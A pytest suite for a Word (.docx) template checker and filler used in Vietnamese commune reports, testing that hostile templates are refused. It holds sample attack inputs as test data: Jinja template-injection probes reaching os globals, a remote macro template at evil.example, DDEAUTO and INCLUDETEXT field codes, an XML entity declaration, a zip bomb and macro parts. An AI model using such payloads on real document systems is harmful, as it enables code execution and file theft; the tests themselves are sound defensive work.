"""Word templates are hostile input: what they may hold, what is said of anything else, and what is made of them."""

import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from docx import Document
from docx.shared import Mm
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.documents import plain_template, word, word_package
from handlers.documents.examples import example_facts
from handlers.documents.pdf import NotWritten
from handlers.documents.word_package import Unfit
from handlers.kit.wording import Wording
from handlers.texts import Texts
from rules.document_forms import BY_ID, FORMS, MOST_ROWS, DocumentForm, named

REPORT = BY_ID["hcd_08"]
VIETNAMESE = Wording(Texts.load(), "vi")


def template(*paragraphs: str) -> bytes:
    document = Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def changed(content: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    """The file with its parts changed, and more of them."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
        for name, part in (more or {}).items():
            new.writestr(name, part)
    return out.getvalue()


def in_document(old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    return lambda name, part: part.replace(old, new) if name == "word/document.xml" else part


def unchanged(_name: str, part: bytes) -> bytes:
    return part


def check(content: bytes, form: DocumentForm = REPORT) -> list[word_package.Fault]:
    try:
        word.check(content, form, example_facts(form, VIETNAMESE))
    except Unfit as unfit:
        return unfit.faults
    return []


def codes(content: bytes) -> list[str]:
    return [fault.code for fault in check(content)]


def text_of(content: bytes) -> str:
    document = Document(BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.id)
def test_our_own_template_of_every_form_can_be_used(form: DocumentForm) -> None:
    content = plain_template.of(form, VIETNAMESE)
    assert check(content, form) == []
    said = text_of(word.fill(content, form, example_facts(form, VIETNAMESE)))
    assert "Lê Văn Hùng" in said
    assert "{" not in said
    assert ("Dự thảo theo mẫu" in said) == bool(form.official)


def test_our_word_files_are_printed_on_a4_with_the_head_of_a_list_on_each_page() -> None:
    form = BY_ID["hcd_09"]
    made = word.fill(plain_template.of(form, VIETNAMESE), form, example_facts(form, VIETNAMESE))
    document = Document(BytesIO(made))
    page = document.sections[0]
    assert [round((side or 0) / Mm(1)) for side in (page.page_width, page.page_height)] == [210, 297]
    head, *lines = document.tables[0].rows
    assert head._tr.xpath("./w:trPr/w:tblHeader")
    assert all(line._tr.xpath("./w:trPr/w:cantSplit") for line in lines)


def test_an_office_writes_its_own_with_values_conditions_and_rows() -> None:
    document = Document()
    document.add_paragraph("Họ tên: {{ ho_ten|upper }}, sinh năm {{nam_sinh}}")
    document.add_paragraph("{%p if lo_ngai %}")
    document.add_paragraph("Lo ngại: {{ lo_ngai }}")
    document.add_paragraph("{%p endif %}")
    document.add_paragraph("Công việc {% if viec_lam %}có{% else %}không{% endif %}")
    document.add_paragraph("{%p for l in lan_tham %}")
    document.add_paragraph("Ngày {{ l.ngay }}: {{ l.ket_qua }}")
    document.add_paragraph("{%p endfor %}")
    out = BytesIO()
    document.save(out)
    assert check(out.getvalue()) == []
    facts: word.Facts = {
        "ho_ten": "Trần Văn Nam",
        "lo_ngai": "",
        "viec_lam": "",
        "lan_tham": [{"ngay": "3/11/2026", "ket_qua": "Gặp được"}, {"ngay": "9/12/2026", "ket_qua": "Đi vắng"}],
    }
    said = text_of(word.fill(out.getvalue(), REPORT, facts))
    assert "TRẦN VĂN NAM, sinh năm ……" in said
    assert "Lo ngại" not in said
    assert "Công việc không" in said
    assert "Ngày 3/11/2026: Gặp được\nNgày 9/12/2026: Đi vắng" in said


def test_a_tag_that_word_has_cut_into_pieces_is_one_tag() -> None:
    document = Document()
    paragraph = document.add_paragraph("Tên: {")
    for piece in ("{ ho", "_ten ", "}}"):
        paragraph.add_run(piece).bold = True
    out = BytesIO()
    document.save(out)
    assert check(out.getvalue()) == []
    assert "Tên: Trần Văn Nam" in text_of(word.fill(out.getvalue(), REPORT, {"ho_ten": "Trần Văn Nam"}))


def test_facts_are_words_and_never_markup_or_tags() -> None:
    nasty = "<w:b/> & {{ ho_ten }} {% for %} \x00\x07\x0c]]>\ndòng hai"
    said = text_of(word.fill(template("{{ ho_ten }} hết"), REPORT, {"ho_ten": nasty}))
    assert said.startswith("<w:b/> & {{ ho_ten }} {% for %} ]]>\ndòng hai hết")


@pytest.mark.parametrize(
    ("written", "code", "what", "meant"),
    [
        ("{{ ho_va_ten }}", "unknown_field", "ho_va_ten", "ho_ten"),
        ("{{ họ tên }}", "unknown_field", "họ tên", "ho_ten"),
        ("{{ Ho_Ten }}", "unknown_field", "Ho_Ten", "ho_ten"),
        ("{{ so_du_bao }}", "unknown_field", "so_du_bao", ""),
        ("{{ lan_tham }}", "is_a_list", "lan_tham", "ngay"),
        ("{{ ho_ten.__class__ }}", "not_a_field", "ho_ten.__class__", ""),
        ("{{ ho_ten.format }}", "not_a_field", "ho_ten.format", ""),
        ("{{ cycler.__init__.__globals__.os }}", "not_a_field", "cycler.__init__.__globals__.os", ""),
        ("{{ ho_ten() }}", "unknown_field", "ho_ten()", "ho_ten"),
        ("{{ 7*7 }}", "not_a_field", "7*7", ""),
        ("{{ ho_ten|safe }}", "unknown_filter", "safe", ""),
        ("{{ ho_ten|attr('x') }}", "not_a_field", "ho_ten|attr('x')", ""),
        ("{% for l in range(9) %}{% endfor %}", "not_a_tag", "for l in range(9)", ""),
        ("{% for l in ho_ten %}{% endfor %}", "not_a_list", "ho_ten", "lan_tham"),
        ("{% for ho_ten in lan_tham %}{% endfor %}", "taken_name", "ho_ten", ""),
        ("{% include 'x' %}", "not_a_tag", "include 'x'", ""),
        ("{% set x = 1 %}", "not_a_tag", "set x = 1", ""),
        ("{% if lo_ngai %}", "not_closed", "if", ""),
        ("{% endif %}", "closes_nothing", "endif", ""),
        ("{{ ho_ten", "loose_brace", "", ""),
        ("{# ho_ten #}", "loose_brace", "", ""),
        ("{{r ho_ten }}", "unknown_field", "r ho_ten", "ho_ten"),
        ("{%tr for l in lan_tham %}", "not_in_own_row", "{%tr for l in lan_tham %}", ""),
        ("chữ {%p if lo_ngai %}{{ lo_ngai }}", "not_in_own_paragraph", "{%p if lo_ngai %}", ""),
    ],
)
def test_what_is_no_field_of_the_form_is_named_with_its_place(written: str, code: str, what: str, meant: str) -> None:
    [fault, *_] = check(template("Kính gửi", f"Đoạn này: {written}"))
    assert (fault.code, fault.what) == (code, what)
    assert fault.where == f"Đoạn này: {written}"
    if meant:
        assert fault.meant == meant


def test_loops_stand_beside_each_other_and_not_in_each_other() -> None:
    one = "{% for l in lan_tham %}{{ l.ngay }}{% endfor %}"
    assert codes(template(one, one)) == []
    assert codes(template("{% for l in lan_tham %}{% for m in lan_tham %}{% endfor %}{% endfor %}")) == ["loop_in_loop"]


def test_of_a_list_that_no_form_has_only_the_list_is_named() -> None:
    [fault] = check(template("{% for l in lan_gap_go %}{{ l.ngay }}{% endfor %}"))
    assert (fault.code, fault.what, fault.meant) == ("not_a_list", "lan_gap_go", "lan_tham")


def test_a_condition_over_two_paragraphs_is_refused_before_it_breaks_the_page() -> None:
    assert codes(template("{% if lo_ngai %} lo", "hết {% endif %}")) == ["closes_nothing", "not_closed"]


def test_a_template_without_any_field_would_say_nothing() -> None:
    assert codes(template("Báo cáo")) == ["no_tags"]


def test_more_tags_than_a_page_can_need_are_refused() -> None:
    assert codes(template(*["{{ ho_ten }}"] * 501)) == ["too_many_tags"]


HONEST = template("{{ ho_ten }}")
RELATION = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="https://evil.example/x.dotm"%s/></Relationships>'
)


def with_relation(kind: bytes, mode: bytes = b' TargetMode="External"') -> bytes:
    def change(name: str, part: bytes) -> bytes:
        is_main = name == "word/_rels/document.xml.rels"
        return part.replace(b"</Relationships>", RELATION % (kind, mode)) if is_main else part

    return changed(HONEST, change)


def with_field(code: bytes) -> bytes:
    field = b'<w:p><w:fldSimple w:instr="' + code + b'"/></w:p><w:sectPr'
    return changed(HONEST, in_document(b"<w:sectPr", field))


BOMB = changed(HONEST, unchanged, {"word/media/image1.png": bytes(30_000_000)})


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "broken"),
        (b"%PDF-1.7", "broken"),
        (HONEST[:-200], "broken"),
        (word_package.OLD_WORD + bytes(100), "old_word"),
        (bytes(word_package.LARGEST + 1), "too_large"),
        (BOMB, "unpacks_too_large"),
        (changed(HONEST, unchanged, {f"x{number}": b"" for number in range(301)}), "unpacks_too_large"),
        (changed(HONEST, unchanged, {"word/vbaProject.bin": b"x"}), "macro"),
        (changed(HONEST, unchanged, {"word/embeddings/oleObject1.bin": b"x"}), "macro"),
        (changed(HONEST, lambda _, part: part.replace(b"document.main", b"template.main")), "not_docx"),
        (
            changed(
                HONEST,
                lambda _, part: part.replace(
                    b"openxmlformats-officedocument.wordprocessingml.document.main",
                    b"ms-word.document.macroEnabled.main",
                ),
            ),
            "macro",
        ),
        (with_relation(b"attachedTemplate"), "remote_link"),
        (with_relation(b"image"), "remote_link"),
        (with_relation(b"hyperlink"), "remote_link"),
        (with_relation(b"aFChunk", b""), "remote_link"),
        (with_field(b"INCLUDETEXT c:/secret"), "field_code"),
        (with_field(b" DDEAUTO cmd"), "field_code"),
        (changed(HONEST, in_document(b"<w:body>", b'<w:body w:rsid="{{ ho_ten }}">')), "hidden_tag"),
        (
            changed(HONEST, in_document(b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document')),
            "broken",
        ),
        (changed(HONEST, in_document(b"</w:body>", b"")), "broken"),
    ],
)
def test_what_could_run_fetch_or_burst_is_refused(content: bytes, code: str) -> None:
    assert codes(content) == [code]


def test_page_numbers_and_dates_of_word_may_stay() -> None:
    assert codes(with_field(b" PAGE  ")) == []


def test_a_field_in_a_header_is_checked_and_filled() -> None:
    document = Document(BytesIO(HONEST))
    document.sections[0].header.paragraphs[0].text = "{{ co_quan }}"
    out = BytesIO()
    document.save(out)
    assert check(out.getvalue()) == []
    made = Document(BytesIO(word.fill(out.getvalue(), REPORT, {"co_quan": "Công an xã"})))
    assert made.sections[0].header.paragraphs[0].text == "Công an xã"
    document.sections[0].header.paragraphs[0].text = "{{ co_quan_nao }}"
    wrong = BytesIO()
    document.save(wrong)
    assert codes(wrong.getvalue()) == ["unknown_field"]


def test_no_more_is_rendered_than_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(word, "LARGEST_RENDERED", 5000)
    with pytest.raises(NotWritten, match=r"^hcd_08$"):
        word.fill(template("{{ ho_ten }}"), REPORT, {"ho_ten": "Nam" * 5000})


def test_a_list_is_cut_where_no_commune_has_more() -> None:
    lines = [{"ngay": "1/1/2027"}] * (MOST_ROWS + 5)
    assert len(word.complete(REPORT, {"lan_tham": lines})["lan_tham"]) == MOST_ROWS


def test_a_fact_that_no_form_has_is_a_fault_of_ours() -> None:
    with pytest.raises(KeyError, match="hcd_08"):
        word.complete(REPORT, {"hoten": "Nam"})


@pytest.mark.parametrize("typed", ["hcd_08", "HCD-08", "hcd8", "HCD 08"])
def test_a_form_is_found_by_the_ways_its_number_is_typed(typed: str) -> None:
    assert named(typed) is REPORT


def test_no_other_form_is_guessed() -> None:
    assert named("HCD-01") is None


# pieces of what a template may hold, and of what it may not
PIECES = (
    *("{{", "}}", "{%", "%}", "{#", "#}", "{", "}", " ", "ho_ten", "lan_tham", "l.ngay", "l", ".", "|upper", "|safe"),
    *("tr ", "p ", "r ", "for l in lan_tham", "endfor", "if lo_ngai", "endif", "else", "not ", "()", "__class__", "Ạ"),
    *("{{ ho_ten }}", "{% if lo_ngai %}", "{% endif %}", "{%p if lo_ngai %}", "{%p endif %}", "{% vm %}", "{% hm %}"),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=6).map("".join), min_size=1, max_size=4))
def test_whatever_is_written_is_refused_or_can_be_filled(paragraphs: list[str]) -> None:
    content = template(*paragraphs)
    if check(content) == []:
        said = text_of(word.fill(content, REPORT, {"ho_ten": "Nam", "lo_ngai": ""}))
        assert "{{" not in said
        assert "{%" not in said


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_file_that_was_damaged_is_refused_or_read_and_nothing_else_happens(data: st.DataObject) -> None:
    content = bytearray(HONEST)
    for place in data.draw(st.lists(st.integers(0, len(content) - 1), min_size=1, max_size=20)):
        content[place] = data.draw(st.integers(0, 255))
    check(bytes(content[: data.draw(st.integers(0, len(content)))]))
